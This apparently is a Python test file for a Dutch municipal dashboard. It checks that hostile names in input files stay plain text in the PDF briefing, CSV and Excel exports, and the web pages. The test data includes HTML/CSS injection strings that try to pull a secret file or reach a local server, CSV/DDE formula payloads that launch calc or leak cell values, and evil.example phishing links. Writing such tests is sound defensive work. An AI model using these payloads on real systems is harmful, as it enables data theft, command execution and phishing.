"""Output that cannot be turned against the gemeente (issue 12): a hostile name in an
input file never becomes HTML, CSS, a formula, markdown or a link in what the app
writes or shows, and the briefing PDF fetches nothing but its own images."""

from __future__ import annotations

import csv
import http.server
import io
import json
import re
import shutil
import subprocess
import threading
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import weasyprint
from conftest import SAMPLE, app_charts, start_app, switch_page

from dashboard.cli import main
from dashboard.exports import briefing_pdf
from dashboard.exports.tables import to_csv, to_excel
from dashboard.ingest.loader import files_in_folder, load
from dashboard.metrics.catalogue import Figure

SECRET = "geheim-bestand-dat-niet-in-de-pdf-mag"


def hostile_names(secret: Path, port: int) -> list[str]:
    """Names that break out of the PDF's HTML and CSS if they are not escaped."""
    return [
        f"Maastricht</style><link rel=attachment href=file://{secret}><style>",
        f'Maastricht</style><link rel="attachment" href="file://{secret}"><style>',
        f"Maas</style><link rel=attachment href=http://127.0.0.1:{port}/lek><style>",
        f'Maas\\"; }} @page {{ @top-left {{ content: url(file://{secret}) }} }} x {{ a: \\"',
        f'Maas"}} body {{ background: url("http://127.0.0.1:{port}/css") }} x {{ a:"',
        f'<img src="file://{secret}"><a href="http://127.0.0.1:{port}/a">Maastricht</a>',
    ]


def sample_with_name(folder: Path, name: str) -> Path:
    """A copy of the sample data where Maastricht (935) is called `name`."""
    shutil.copytree(SAMPLE, folder)
    path = folder / "gemeenten.csv"
    text = path.read_text(encoding="utf-8-sig")
    quoted = name.replace('"', '""')
    assert "935;Maastricht;" in text
    path.write_text(text.replace("935;Maastricht;", f'935;"{quoted}";', 1), encoding="utf-8-sig")
    return folder


@pytest.fixture
def web_server():
    """A local web server that records every request: nothing may reach it."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (the stdlib's name)
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            self.wfile.write(SECRET.encode())

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()


def embedded_files(pdf: Path) -> str:
    return subprocess.run(
        ["pdfdetach", "-list", str(pdf)], check=True, capture_output=True, text=True
    ).stdout


def pdf_text(pdf: Path) -> str:
    return subprocess.run(
        ["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout


def test_a_hostile_gemeentenaam_cannot_make_the_briefing_carry_a_file(tmp_path, web_server):
    port, hits = web_server
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    for index, name in enumerate(hostile_names(secret, port)):
        folder = sample_with_name(tmp_path / f"in{index}", name)
        db = tmp_path / f"b{index}.duckdb"
        load(db, files_in_folder(folder), source=str(folder))
        pdf = tmp_path / f"b{index}.pdf"
        argv = ["briefing", "--db", str(db), "--gemeente", "935", "--jaar", "2024"]
        assert main([*argv, "--out", str(pdf)]) == 0
        assert "0 embedded files" in embedded_files(pdf), name
        text = pdf_text(pdf)
        assert SECRET not in text, name
        # The name is shown as the text it is, in the heading and in the footer.
        flat = " ".join(text.split())
        assert "Maas" in flat and ("style>" in flat or "url(" in flat or "<img" in flat), name
    assert hits == []


def test_the_pdf_fetcher_serves_only_the_documents_own_images(tmp_path, web_server):
    port, hits = web_server
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    html = (
        f'<html><head><link rel="attachment" href="file://{secret}">'
        f'<link rel="stylesheet" href="http://127.0.0.1:{port}/s.css"></head><body>'
        f'<img src="file://{secret}"><img src="http://127.0.0.1:{port}/i.png">'
        f'<img src="data:text/plain,{SECRET}"><object data="file://{secret}"></object>'
        f'<p style="background: url(file://{secret})">tekst</p></body></html>'
    )
    fetcher = briefing_pdf.OwnImages({})
    pdf = tmp_path / "x.pdf"
    pdf.write_bytes(weasyprint.HTML(string=html, url_fetcher=fetcher).write_pdf())
    assert "0 embedded files" in embedded_files(pdf)
    assert SECRET not in pdf_text(pdf)
    assert SECRET.encode() not in pdf.read_bytes()
    assert hits == []


def test_css_strings_escape_everything_that_could_end_them():
    hostile = "a\"b\\c\nd</style>'e;}{"
    escaped = briefing_pdf._css_string(hostile)
    assert escaped.startswith('"') and escaped.endswith('"')
    # Inside the quotes only letters, digits, spaces and escapes (hex, a space) remain.
    assert re.fullmatch(r"(?:[^\W_]| |\\[0-9a-f]{1,6} )*", escaped[1:-1]), escaped
    assert briefing_pdf._css_string("a · b") == '"a \\b7  b"'  # the space after stays


FORMULAS = [
    '=HYPERLINK("http://127.0.0.1/?"&A1;"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
]


def hostile_table() -> tuple[pd.DataFrame, list[Figure]]:
    frame = pd.DataFrame(
        {
            "naam": [*FORMULAS, "Maastricht"],
            "aantal": [-5, 12, 30, 40, 50, 60, 70, 80],
            "bedrag": [-1.5, 2.25, 0.0, 1.0, 2.0, 3.0, 4.0, -1234.5],
        }
    )
    columns = [
        Figure("naam", "Gemeente", "tekst", "test"),
        Figure("aantal", "Saldo", "aantal", "test"),
        Figure("bedrag", "Bedrag", "euro", "test"),
    ]
    return frame, columns


def sheet_xml(xlsx: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if "worksheets/" in name
        )


def test_csv_cells_that_start_a_formula_get_a_leading_apostrophe():
    frame, columns = hostile_table()
    text = to_csv(frame, columns, min_aantal=1).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    names = [r[0] for r in records[1:]]
    assert names == [f"'{f}" for f in FORMULAS] + ["Maastricht"]
    assert [r[1] for r in records[1:3]] == ["-5", "12"]  # negative numbers stay numbers
    assert records[1][2] == "-1,5" and records[-1][2] == "-1234,5"


def test_excel_text_that_looks_like_a_formula_is_stored_as_text():
    frame, columns = hostile_table()
    xlsx = to_excel({"Regio": (frame, columns)}, min_aantal=1)
    assert "<f>" not in sheet_xml(xlsx)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))["Regio"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML turns a carriage return into a newline; the text is otherwise as it was.
    assert [c.value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS] + ["Maastricht"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:-1])
    assert sheet["B2"].value == -5 and sheet["C2"].value == -1.5  # numbers untouched
    assert sheet["B2"].data_type == "n"


def test_a_formula_as_gemeentenaam_stays_text_in_the_briefing_workbook(tmp_path):
    name = FORMULAS[0]
    folder = sample_with_name(tmp_path / "in", name)
    db = tmp_path / "b.duckdb"
    load(db, files_in_folder(folder), source=str(folder))
    xlsx = tmp_path / "b.xlsx"
    argv = ["briefing", "--db", str(db), "--gemeente", "935", "--jaar", "2024"]
    assert main([*argv, "--out", str(tmp_path / "b.pdf"), "--excel", str(xlsx)]) == 0
    assert "<f>" not in sheet_xml(xlsx.read_bytes())
    book = openpyxl.load_workbook(xlsx)
    shown = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == name]
    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)


PHISH = "[klik](https://evil.example/phish) ![t](https://evil.example/t.png) :red[rood]"
WERKGEVER = '<a href="https://evil.example/">Werkgever</a>'
MARKDOWN_ELEMENTS = (
    "title", "header", "subheader", "markdown", "caption", "info", "warning", "error",
    "success",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """The sample with a markdown gemeentenaam and an HTML link as its largest werkgever."""
    folder = sample_with_name(tmp_path_factory.mktemp("md") / "in", PHISH)
    path = folder / "plaatsingen.csv"
    text = path.read_text(encoding="utf-8-sig")
    path.write_text(
        text.replace(
            "Mensontwikkelbedrijf Maastricht-Heuvelland",
            f'"{WERKGEVER.replace(chr(34), chr(34) * 2)}"',
        ),
        encoding="utf-8-sig",
    )
    db = folder.parent / "md.duckdb"
    load(db, files_in_folder(folder), source=str(folder))
    return db


def markdown_bodies(at) -> list[str]:
    """The markdown source of every element that Streamlit renders as markdown."""
    bodies = [str(e.value) for kind in MARKDOWN_ELEMENTS for e in getattr(at, kind)]
    return bodies + [str(m.label) for m in at.metric]


def chart_strings(at) -> list[str]:
    """Every text a chart shows: categories, names, hovers, labels."""
    found = []
    for traces in app_charts(at):
        for trace in traces:
            for key in ("x", "y", "customdata", "name", "text", "hovertemplate"):
                value = trace.get(key)
                values = value if isinstance(value, list) else [value]
                found += [v for v in values if isinstance(v, str)]
    return found


@pytest.mark.parametrize("page", ["Overzicht", "Taakstelling", "Voorschakeltraject", "Regio"])
def test_names_show_as_text_on_every_page(monkeypatch, hostile_db, page):
    at = start_app(monkeypatch, hostile_db)
    at.multiselect(key="gemeenten").set_value(["GM0935"]).run()
    switch_page(at, page)
    if page == "Regio":
        at.selectbox(key="regio_uitlichten_GM0935").set_value("GM0935").run()
    assert not at.exception, at.exception
    bodies = markdown_bodies(at)
    joined = "\n".join(bodies)
    assert "[klik](" not in joined and "![t](" not in joined and ":red[" not in joined
    assert "\\[klik\\]\\(https\\:" in joined  # the name is there, escaped
    strings = chart_strings(at)
    assert not [s for s in strings if "<a " in s or "</a>" in s]
    if page == "Taakstelling":
        assert any("&lt;a href" in s for s in strings)  # the werkgever, as text


def test_charts_have_no_image_download(monkeypatch, sample_db):
    at = start_app(monkeypatch, sample_db)
    seen = 0
    for page in ["Overzicht", "Taakstelling", "Begroting", "Voorschakeltraject",
                 "Prognose & scenario's", "Regio"]:  # fmt: skip
        switch_page(at, page)
        for chart in at.get("plotly_chart"):
            layout = json.loads(chart.proto.spec)["layout"]
            assert "toImage" in layout["modebar"]["remove"], page
            seen += 1
    assert seen >= 15
